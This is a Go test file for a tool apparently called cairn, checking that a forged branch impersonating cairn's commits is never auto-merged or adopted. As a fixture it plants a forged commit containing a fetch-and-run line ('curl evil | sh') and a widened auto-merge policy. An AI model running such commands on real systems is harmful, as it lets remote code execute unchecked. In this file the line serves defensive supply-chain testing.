package publish

import (
	"context"
	"maps"
	"strings"
	"testing"
	"time"

	git "github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/cairn-dev/cairn/planner/plan"
	"github.com/cairn-dev/cairn/policies"
	"github.com/cairn-dev/cairn/testbed"
	"github.com/cairn-dev/cairn/testbed/gitbed"
)

// forge pushes to branch a commit on main that claims to be cairn's (its
// name and email, its trailers), with the rendered folders of branch
// from (when set) and files: what anyone who may push can do.
func forge(t *testing.T, bare, branch, from string, files map[string]string) plumbing.Hash {
	t.Helper()
	return gitbed.Forge(t, bare, branch, from, files,
		"cairn: e: Add e-3\n\nCairn-Cluster: EtcdCluster/e\nCairn-Step: etcd-add-3\nCairn-Plan: 0123456789ab\n",
		object.Signature{Name: "cairn", Email: cairnEmail, When: time.Now()})
}

// autoMerging turns auto-merge on for w's etcd scale-outs, gates passing.
func autoMerging(w *world) {
	w.pols = policies.Set{policies.AutoMerge{PolicyName: "e/auto-merge", Kinds: []plan.Kind{plan.EtcdAddMember}}}
	w.gates = func(plan.Plan) (bool, string) { return true, "" }
}

const widened = "apiVersion: cairn.dev/v1alpha1\nkind: AutoMerge\nkinds: [all]\n"

// A branch that claims to be cairn's, with cairn's email and a Cairn-Step
// trailer, but carries more than cairn's rendering (a widened policy, a
// file elsewhere) is never merged nor adopted, before or after cairn
// opened the step's pull request; its check fails saying why, once.
func TestAForgedBranchIsNeverMergedNorAdopted(t *testing.T) {
	branch := Branch("e", "etcd-add-3")
	t.Run("before cairn publishes", func(t *testing.T) {
		w := newWorld(t, map[string]string{"clusters/e.yaml": testbed.EtcdSpec(5, "3.5.21", ""), "policies/auto-merge.yaml": "kinds: []\n"})
		w.live = testbed.EtcdLive(3, "3.5.21", false, "")
		autoMerging(w)
		forged := forge(t, w.bare, branch, "", map[string]string{"rendered/e/kustomization.yaml": "resources: [evil.yaml]\n", "policies/auto-merge.yaml": widened})
		for range 2 {
			o := w.one()
			if o.Action != ActionForeign || !strings.Contains(o.Note, "not cairn's commit") || !strings.Contains(o.Note, "policies/auto-merge.yaml") {
				t.Fatalf("%+v", o)
			}
		}
		if prs, _ := w.prs.List(context.Background()); len(prs) != 0 {
			t.Errorf("a pull request was opened for the forged head: %+v", prs)
		}
		assertUntouched(t, w, forged)
	})
	t.Run("over cairn's open pull request", func(t *testing.T) {
		w := newWorld(t, map[string]string{"clusters/e.yaml": testbed.EtcdSpec(5, "3.5.21", ""), "policies/auto-merge.yaml": "kinds: []\n"})
		w.live = testbed.EtcdLive(3, "3.5.21", false, "")
		if o := w.one(); o.Action != ActionOpened {
			t.Fatalf("%+v", o)
		}
		// Exactly cairn's rendering, and more.
		forged := forge(t, w.bare, branch, branch, map[string]string{"policies/auto-merge.yaml": widened, "extra.sh": "curl evil | sh\n"})
		autoMerging(w)
		if o := w.one(); o.Action != ActionForeign || !strings.Contains(o.Note, "status fails") {
			t.Fatalf("%+v", o)
		}
		pr, _ := w.prs.(*Local).Find(context.Background(), branch)
		if pr.Head != forged.String() || pr.Check.State != "failure" || !strings.Contains(pr.Check.Description, "not cairn's commit") ||
			!strings.Contains(pr.Body, "is not a commit cairn made") || !strings.Contains(pr.Body, "extra.sh") {
			t.Fatalf("pull request: %+v", pr)
		}
		// Said once: the next pass writes nothing.
		before := refs(t, w.bare)
		if o := w.one(); o.Action != ActionForeign {
			t.Fatalf("%+v", o)
		}
		if after := refs(t, w.bare); !maps.Equal(before, after) {
			t.Errorf("a second pass wrote: %v -> %v", before, after)
		}
		assertUntouched(t, w, forged)

		// A person resets the branch to the base: cairn publishes its own
		// commit again, which auto-merge merges, and only that.
		reset(t, w.bare, branch)
		if o := w.one(); o.Action != ActionAutoMerged {
			t.Fatalf("after the reset: %+v", o)
		}
		main := readFiles(t, w.bare, "main")
		if main["rendered/e/kustomization.yaml"] == "" || main["policies/auto-merge.yaml"] != "kinds: []\n" || main["extra.sh"] != "" {
			t.Fatalf("main after merging cairn's commit: %v", main)
		}
	})
}

// A pull request a person closed because it held a forged head declined
// the forged commit, not the step: with the branch deleted, cairn
// proposes the step again.
func TestClosingAForgedPullRequestIsNoDecline(t *testing.T) {
	ctx := context.Background()
	branch := Branch("e", "etcd-add-3")
	w := newWorld(t, map[string]string{"clusters/e.yaml": testbed.EtcdSpec(5, "3.5.21", "")})
	w.live = testbed.EtcdLive(3, "3.5.21", false, "")
	if o := w.one(); o.Action != ActionOpened {
		t.Fatalf("%+v", o)
	}
	forge(t, w.bare, branch, branch, map[string]string{"extra.sh": "curl evil | sh\n"})
	if o := w.one(); o.Action != ActionForeign {
		t.Fatalf("%+v", o)
	}
	pr, _ := w.prs.(*Local).Find(ctx, branch)
	if err := w.prs.Close(ctx, *pr, ""); err != nil { // a person closes it
		t.Fatal(err)
	}
	repo, _ := git.PlainOpen(w.bare)
	if err := repo.Storer.RemoveReference(plumbing.NewBranchReferenceName(branch)); err != nil {
		t.Fatal(err)
	}
	if o := w.one(); o.Action != ActionOpened {
		t.Fatalf("after the person closed the forged pull request: %+v", o)
	}
}

// assertUntouched checks that the forged head is still the branch's, and
// that main holds none of it.
func assertUntouched(t *testing.T, w *world, forged plumbing.Hash) {
	t.Helper()
	if gitbed.Head(t, w.bare, Branch("e", "etcd-add-3")) != forged {
		t.Error("the forged head was pushed over")
	}
	main := readFiles(t, w.bare, "main")
	if main["rendered/e/kustomization.yaml"] != "" || main["policies/auto-merge.yaml"] != "kinds: []\n" || main["extra.sh"] != "" {
		t.Errorf("main took the forged commit: %v", main)
	}
}

func reset(t *testing.T, bare, branch string) {
	t.Helper()
	repo, _ := git.PlainOpen(bare)
	if err := repo.Storer.SetReference(plumbing.NewHashReference(plumbing.NewBranchReferenceName(branch), gitbed.Head(t, bare, "main"))); err != nil {
		t.Fatal(err)
	}
}

func refs(t *testing.T, bare string) map[string]string {
	t.Helper()
	repo, _ := git.PlainOpen(bare)
	it, _ := repo.References()
	out := map[string]string{}
	_ = it.ForEach(func(r *plumbing.Reference) error { out[r.Name().String()] = r.Hash().String(); return nil })
	return out
}

func readFiles(t *testing.T, bare, branch string) map[string]string {
	t.Helper()
	repo, _ := git.PlainOpen(bare)
	c, err := repo.CommitObject(gitbed.Head(t, bare, branch))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	iter, _ := c.Files()
	_ = iter.ForEach(func(f *object.File) error {
		out[f.Name], _ = f.Contents()
		return nil
	})
	return out
}
